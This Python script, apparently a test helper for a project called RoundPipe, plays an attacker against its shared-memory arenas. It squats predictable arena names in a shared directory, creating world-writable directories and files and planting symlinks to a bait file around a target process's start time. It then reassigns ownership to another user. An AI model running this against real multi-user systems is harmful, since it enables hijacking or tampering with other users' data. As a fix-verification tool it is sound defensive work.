"""An attacker with no access to RoundPipe: `python arena_squatter.py ROOT NAMESPACE [PID]`.

Pre-creates, in the shared arena root ROOT, every arena name it can predict:

* without PID: directories whose names do not depend on chance (``roundpipe-<uid>``,
  ``rp-<uid>``, ``roundpipe``, ``rp.<namespace>``), open to everyone (mode 0777);
* with PID (a running coordinator of NAMESPACE): ``rp.<ns>.<pid>.<start>.<name>`` for each
  of a job's arenas (the names before they had a random part), as files (0666) at the
  process's start time and as symbolic links (to a file of the attacker's) one tick
  either side of it.

Run as root, it hands what it made to ``nobody`` (65534), as another user would own it.
Prints one line per name it created.
"""

import os
import sys
from pathlib import Path

from roundpipe.shared.arena import process_start_cs

ARENAS = ("params", "grads", "acts", "dacts", "io", "events")
NOBODY = 65534


def main() -> None:
    root = Path(sys.argv[1])
    namespace = sys.argv[2]
    victim_uid = os.geteuid()
    made: list[Path] = []
    if len(sys.argv) < 4:
        for name in (f"roundpipe-{victim_uid}", f"rp-{victim_uid}", "roundpipe", f"rp.{namespace}"):
            path = root / name
            path.mkdir()
            path.chmod(0o777)
            made.append(path)
    else:
        pid = int(sys.argv[3])
        start = process_start_cs(pid)
        bait = root / f"bait-{os.getpid()}"
        bait.write_bytes(b"\0" * 8192)
        bait.chmod(0o666)
        made.append(bait)
        for name in ARENAS:
            path = root / f"rp.{namespace}.{pid}.{start}.{name}"
            fd = os.open(path, os.O_RDWR | os.O_CREAT | os.O_EXCL, 0o666)
            os.ftruncate(fd, 8192)
            os.fchmod(fd, 0o666)
            os.close(fd)
            made.append(path)
            for tick in (start - 1, start + 1):
                link = root / f"rp.{namespace}.{pid}.{tick}.{name}"
                link.symlink_to(bait)
                made.append(link)
    if os.geteuid() == 0:
        for path in made:
            os.lchown(path, NOBODY, NOBODY)
    for path in made:
        print(path, flush=True)


if __name__ == "__main__":
    main()
